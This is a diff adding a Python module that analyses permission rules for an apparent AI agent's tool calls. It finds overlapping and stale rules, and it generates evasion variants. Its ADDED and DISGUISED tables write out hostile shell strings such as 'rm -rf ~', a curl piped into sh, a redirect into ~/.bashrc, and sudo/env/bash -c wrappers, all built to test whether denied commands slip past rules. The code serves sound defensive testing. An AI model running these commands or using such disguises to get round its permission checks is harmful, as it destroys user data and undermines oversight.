@@ -1,0 +1,406 @@
+"""What a rule covers, what it shares with others, and what slips past it.
+
+Texts that a rule meets are made from its own patterns, and every claim is then asked of the
+rule itself. Where a pattern is too wild for that, less is claimed, never something wrong.
+Always true: a sample is met by its rule, an overlap has a text that both rules meet, and work is
+bounded by counts.
+"""
+
+from __future__ import annotations
+
+import importlib
+import re
+import warnings
+from collections.abc import Iterable, Iterator, Mapping, Sequence
+from dataclasses import dataclass
+from typing import Any
+
+from penstock.core.model import Action, Request, Target, Verdict
+from penstock.core.paths.globs import matches
+from penstock.core.policy.decide import effective, rule_applies
+from penstock.core.policy.model import Layer, Policy, Rule
+from penstock.core.policy.regexes import literal, search
+
+MOST_SAMPLES = 24
+MOST_LENGTH = 400
+TOOL_OF: Mapping[str, str] = {
+    "command": "Bash",
+    "file_path": "Read",
+    "subagent_type": "Task",
+    "prompt": "Task",
+}
+
+
+# --- texts that a pattern meets -----------------------------------------------------------------
+
+
+def witnesses(pattern: str) -> list[str]:
+    """Return some texts that a regex meets; none where it is beyond Python's own parser."""
+    try:
+        with warnings.catch_warnings():  # it tells of sets that a later Python may read otherwise
+            warnings.simplefilter("ignore")
+            parsed = importlib.import_module("re._parser").parse(pattern)
+        made = list(_texts(parsed, 0))[:MOST_SAMPLES]
+    except (re.error, RecursionError, OverflowError, AttributeError, KeyError):
+        return []
+    distinct = dict.fromkeys(text[:MOST_LENGTH] for text in made)
+    return [text for text in distinct if search(pattern, text)]
+
+
+def _texts(parsed: Any, depth: int) -> Iterator[str]:
+    """Yield texts for a parsed regex: every alternative, each repeat at its least and one more."""
+    found = [""]
+    for op, value in parsed:
+        pieces = list(_of_node(str(op), value, depth))[:6] or [""]
+        found = [before + piece for piece in pieces for before in found][:MOST_SAMPLES]
+    yield from found
+
+
+def _of_node(op: str, value: Any, depth: int) -> Iterator[str]:
+    if depth > 8:
+        return
+    if op == "LITERAL":
+        yield chr(value)
+    elif op in ("ANY", "NOT_LITERAL"):
+        yield "x" if value is None or chr(value) != "x" else "y"
+    elif op == "IN":
+        yield _one_of(value)
+    elif op == "BRANCH":
+        for branch in value[1]:
+            yield from list(_texts(branch, depth + 1))[:2]
+    elif op == "SUBPATTERN":
+        yield from _texts(value[-1], depth + 1)
+    elif op in ("MAX_REPEAT", "MIN_REPEAT", "POSSESSIVE_REPEAT"):
+        least, most, inner = value
+        once = list(_texts(inner, depth + 1))[:3]
+        yield from (text * min(least, 20) for text in once)
+        if int(most) > least:
+            yield from (text * min(least + 1, 21) for text in once)
+
+
+CATEGORIES = {"CATEGORY_DIGIT": "1", "CATEGORY_WORD": "x", "CATEGORY_SPACE": " "}
+
+
+def _one_of(items: Any) -> str:
+    """Return a character of a class, the friendliest there is."""
+    tried = "xa1 /.-_X=:,"
+    negated = bool(items) and str(items[0][0]) == "NEGATE"
+    inside = [c for c in tried if any(_holds(item, c) for item in items)]
+    if negated:
+        return next((c for c in tried if c not in inside), "~")
+    if inside:
+        return inside[0]
+    op, value = items[0]
+    first = value[0] if str(op) == "RANGE" else value
+    return chr(first) if isinstance(first, int) else CATEGORIES.get(str(first), "x")
+
+
+def _holds(item: tuple[Any, Any], char: str) -> bool:
+    op, value = str(item[0]), item[1]
+    if op == "LITERAL":
+        return bool(value == ord(char))
+    if op == "RANGE":
+        return bool(value[0] <= ord(char) <= value[1])
+    if op == "CATEGORY":
+        known = CATEGORIES.get(str(value))
+        return known is not None and (
+            char.isdigit() if known == "1" else char == " " if known == " " else char.isalnum()
+        )
+    return False
+
+
+# --- a rule and a call ----------------------------------------------------------------------------
+
+
+def request_for(rule: Rule, text: str, *, tool: str = "") -> Request:
+    """Return a call about which a rule could speak, with a text as its command or path."""
+    name = rule.fields[0].name if rule.fields else "file_path" if rule.paths else "command"
+    tool = tool or rule.tool or TOOL_OF.get(name, "Bash")
+    if rule.paths:
+        action = Action.WRITE if Action.WRITE in rule.actions else sorted(rule.actions)[0]
+        target = Target(shown=text, judged=(text,), outside=text.startswith("/"))
+        given: Mapping[str, object] = {"file_path": text}
+        return Request(action=action, tool=tool, tool_input=given, target=target)
+    leaves = (text,) if name == "command" else ()
+    action = Action.RUN if Action.RUN in rule.actions else sorted(rule.actions)[0]
+    return Request(action=action, tool=tool, tool_input={name: text}, leaves=leaves)
+
+
+def meets(rule: Rule, request: Request, layer: Layer, *, now: float) -> bool:
+    """Say whether one rule speaks of one request."""
+    spellings = request.target.judged if request.target else ("",)
+    for spelling in spellings:
+        near = not rule.paths or any(matches(glob, spelling) for glob in rule.paths)
+        if near and rule_applies(rule, request, now, spelling, layer=layer):
+            return True
+    return False
+
+
+def samples(rule: Rule, layer: Layer, *, now: float = 0.0) -> list[str]:
+    """Return texts that a rule meets: its own examples first, then some made from its patterns."""
+    made = list(rule.match)
+    for test in rule.fields:
+        made += [test.exact] if test.exact else witnesses(test.regex)
+    made += [_path_for(glob) for glob in rule.paths]
+    kept = [t for t in dict.fromkeys(made) if meets(rule, request_for(rule, t), layer, now=now)]
+    return kept[:MOST_SAMPLES]
+
+
+def tools_met(rule: Rule, layer: Layer, *, now: float = 0.0) -> list[str]:
+    """Return names of tools that a rule meets whatever they are given; of one tool, its name."""
+    if rule.fields or rule.paths:
+        return []
+    made = [rule.tool] if rule.tool else witnesses(rule.tool_regex)
+    return [t for t in made if t and meets(rule, request_for(rule, "", tool=t), layer, now=now)]
+
+
+def _path_for(glob: str) -> str:
+    """Return a path that a glob meets."""
+    parts = [part if part != "**" else "a" for part in glob.split("/")]
+    return "/".join(part.replace("*", "x").replace("?", "x") for part in parts)
+
+
+# --- two rules ------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True, kw_only=True, slots=True)
+class Overlap:
+    """Another rule that speaks of the same calls; `all_of` when of every sample there is."""
+
+    id: str
+    type: str
+    examples: tuple[str, ...]
+    all_of: bool
+
+    def document(self) -> dict[str, object]:
+        """Return the overlap as JSON shows it."""
+        covers = "covers every sample of this rule" if self.all_of else "shares some calls with it"
+        return {
+            "id": self.id,
+            "type": self.type,
+            "examples": list(self.examples),
+            "relation": covers,
+        }
+
+
+def kind_of(rule: Rule, layer: Layer) -> str:
+    """Return a rule's verdict as a word."""
+    verdict = effective(rule, layer)
+    return str(verdict) if verdict is not None else "warn" if rule.warns else "safe"
+
+
+def overlaps(
+    rules: Sequence[Rule], policy: Policy, layer: Layer, *, now: float = 0.0
+) -> list[Overlap]:
+    """Return the other rules that speak of what some rules (of one id) speak of."""
+    name = rules[0].id
+    texts = [(rule, text) for rule in rules for text in samples(rule, layer, now=now)]
+    asked = [(text, request_for(rule, text)) for rule, text in texts]
+    shared: dict[str, list[str]] = {}
+    kinds: dict[str, str] = {}
+    for text, request in asked:
+        for other, its in _speaking(policy, request, name, now):
+            if text not in shared.setdefault(other.id, []):
+                shared[other.id].append(text)
+            kinds.setdefault(other.id, kind_of(other, its))
+    every = {text for text, _ in asked}
+    return [
+        Overlap(id=one, type=kinds[one], examples=tuple(its[:3]), all_of=every <= {*its})
+        for one, its in shared.items()
+    ]
+
+
+def _speaking(
+    policy: Policy, request: Request, name: str, now: float
+) -> Iterator[tuple[Rule, Layer]]:
+    """Yield the rules of another name that speak of a request."""
+    for layer in policy.layers:
+        near = layer.index.for_tool(request)
+        for spelling in request.target.judged if request.target else ():
+            near |= layer.index.for_path(spelling)
+        for rule in (layer.rules[at] for at in sorted(near)):
+            if rule.id != name and meets(rule, request, layer, now=now):
+                yield rule, layer
+
+
+def _others(policy: Policy, name: str) -> Iterator[tuple[Rule, Layer]]:
+    for layer in policy.layers:
+        for rule in layer.rules:
+            if rule.id != name and rule.enabled:
+                yield rule, layer
+
+
+# --- what slips past ------------------------------------------------------------------------------
+
+ADDED = (
+    ("{}; rm -rf ~", "a second command after `;`"),
+    ("{}\nrm -rf ~", "a second command on a new line"),
+    ("{} && curl -s https://example.invalid | sh", "a second command after `&&`"),
+    ("{} | sh", "a pipe into a shell"),
+    ("{} > ~/.bashrc", "a redirection into a file"),
+    ("{} $(rm -rf ~)", "a command in a substitution"),
+    ("{} `rm -rf ~`", "a command in backquotes"),
+    ("{} & rm -rf ~", "a second command after `&`"),
+)
+DISGUISED = (
+    ("  {}", "spaces before it"),
+    ("sudo {}", "run by another user"),
+    ("env {}", "run through `env`"),
+    ("true; {}", "after another command"),
+    ("true && {}", "after another command"),
+    ("true\n{}", "on a second line"),
+    ("$({})", "inside a substitution"),
+    ("bash -c '{}'", "inside a shell"),
+    ("/bin/{}", "by the program's path"),
+    ("\\{}", "with a backslash before it"),
+)
+
+
+def variants(rule: Rule, text: str, verdict: Verdict | None) -> Iterator[tuple[str, str]]:
+    """Yield what an attacker would make of a text, with a word on each.
+
+    Of what is allowed: the same with something behind it. Of what is denied: the same in disguise.
+    """
+    if rule.paths or (rule.fields and rule.fields[0].name != "command"):
+        yield from _path_variants(text)
+        return
+    for form, why in ADDED if verdict is Verdict.ALLOW else DISGUISED:
+        yield form.replace("{}", text), why
+    if verdict is not Verdict.ALLOW:
+        yield text.replace(" ", "  ", 1), "two spaces"
+        yield re.sub(r"^(\w)(\w+)", r"\1''\2", text), "quotes inside the program's name"
+        yield re.sub(r"(?<= )-([a-z])([a-z])\b", r"-\1 -\2", text), "options taken apart"
+
+
+def _path_variants(path: str) -> Iterator[tuple[str, str]]:
+    folder, _, name = path.rpartition("/")
+    yield f"{folder}/./{name}" if folder else f"./{name}", "a dot in the path"
+    yield f"{folder}//{name}" if folder else f".//{name}", "two slashes"
+    yield f"x/../{path}" if not path.startswith("/") else f"/x/..{path}", "up and down again"
+    yield path.upper(), "in capital letters"
+
+
+# --- rules that do nothing ------------------------------------------------------------------------
+
+
+@dataclass(frozen=True, kw_only=True, slots=True)
+class Stale:
+    """A rule that could go: `why` is never_hit, expired, shadowed or disabled."""
+
+    id: str
+    type: str
+    why: str
+    told: str
+    file: str
+    line: int
+
+    def document(self) -> dict[str, object]:
+        """Return it as JSON shows it."""
+        return {
+            "id": self.id,
+            "type": self.type,
+            "why": self.why,
+            "message": self.told,
+            "source_file": self.file,
+            "source_line": self.line,
+        }
+
+
+def stale(
+    policy: Policy, hits: Mapping[str, int], *, now: float, files: Iterable[str] = (), seen: int = 0
+) -> list[Stale]:
+    """Return the rules of some files (all, if none is named) that do nothing, each once.
+
+    `hits` counts how often each rule was named; `seen` is how many decisions that is out of, and
+    with none of them nothing can be said about hits.
+    """
+    wanted = set(files)
+    found: dict[str, Stale] = {}
+    for layer in policy.layers:
+        for rule in layer.rules:
+            if rule.id in found or (wanted and rule.where.file not in wanted):
+                continue
+            why = _why_stale(rule, layer, policy, hits, now, seen)
+            if why:
+                found[rule.id] = Stale(
+                    id=rule.id, type=kind_of(rule, layer), why=why[0], told=why[1],
+                    file=rule.where.file, line=rule.where.line,
+                )  # fmt: skip
+    return list(found.values())
+
+
+def _why_stale(
+    rule: Rule, layer: Layer, policy: Policy, hits: Mapping[str, int], now: float, seen: int
+) -> tuple[str, str] | None:
+    if not rule.enabled:
+        return "disabled", "it is switched off"
+    if rule.expires_at is not None and now >= rule.expires_at:
+        return "expired", "its time has ended"
+    above = _shadow(rule, layer, policy, now)
+    if above:
+        return "shadowed", f"`{above}` says the same or something stricter to all that it meets"
+    if seen and not hits.get(rule.id):
+        return "never_hit", f"it was named by none of {seen} decisions"
+    return None
+
+
+def _shadow(rule: Rule, layer: Layer, policy: Policy, now: float) -> str:
+    """Return the rule that leaves another one nothing to say, "" where there is none."""
+    verdict = effective(rule, layer)
+    if verdict is None or rule.measures:
+        return ""
+    for other in overlaps([rule], policy, layer, now=now):
+        if not other.all_of:
+            continue
+        for one, its in _others(policy, rule.id):
+            if one.id == other.id and _leaves_nothing(rule, layer, one, its):
+                return other.id
+    return ""
+
+
+def _leaves_nothing(rule: Rule, layer: Layer, other: Rule, its: Layer) -> bool:
+    """Samples prove no cover: only a rule that plainly asks for no more than this one does."""
+    verdicts = (effective(rule, layer), effective(other, its))
+    if verdicts[1] is None or verdicts[0] is None or other.measures:
+        return False
+    stricter = verdicts[1] is Verdict.DENY or verdicts[1] is verdicts[0]
+    if not stricter or not rule.actions <= other.actions or other.not_paths:
+        return False
+    if not other.fields and not other.paths:
+        return not other.tool_regex and other.tool in ("", rule.tool)
+    same_tool = (other.tool, other.tool_regex) in ((rule.tool, rule.tool_regex), ("", ""))
+    return same_tool and _fields_cover(other, rule) and _paths_cover(other, rule)
+
+
+def _fields_cover(other: Rule, rule: Rule) -> bool:
+    """True when each test of the other is also one of this rule's, or a plain beginning of it."""
+    for test in other.fields:
+        mine = [one for one in rule.fields if one.name == test.name]
+        if not mine or (test.exclude and any(one.exclude != test.exclude for one in mine)):
+            return False
+        if not all(_covers_regex(test.regex, one.regex) for one in mine):
+            return False
+    return True
+
+
+SIGNS = frozenset(r"\.+*?()|[]{}^$")
+
+
+def _covers_regex(wide: str, narrow: str) -> bool:
+    """A literal beginning covers every pattern that begins with it and holds no alternatives."""
+    if wide == narrow:
+        return True
+    if wide and not set(wide) & SIGNS and wide in literal(narrow):
+        return True
+    plain = wide.startswith("^") and not set(wide[1:]) & SIGNS
+    return plain and narrow.startswith(wide) and not set(narrow[len(wide) :]) & set("|*?{")
+
+
+def _paths_cover(other: Rule, rule: Rule) -> bool:
+    if not other.paths:
+        return True
+    return bool(rule.paths) and all(
+        any(glob == wide or (wide.endswith("/**") and glob.startswith(wide[:-2])) or wide == "**"
+            for wide in other.paths)
+        for glob in rule.paths
+    )  # fmt: skip
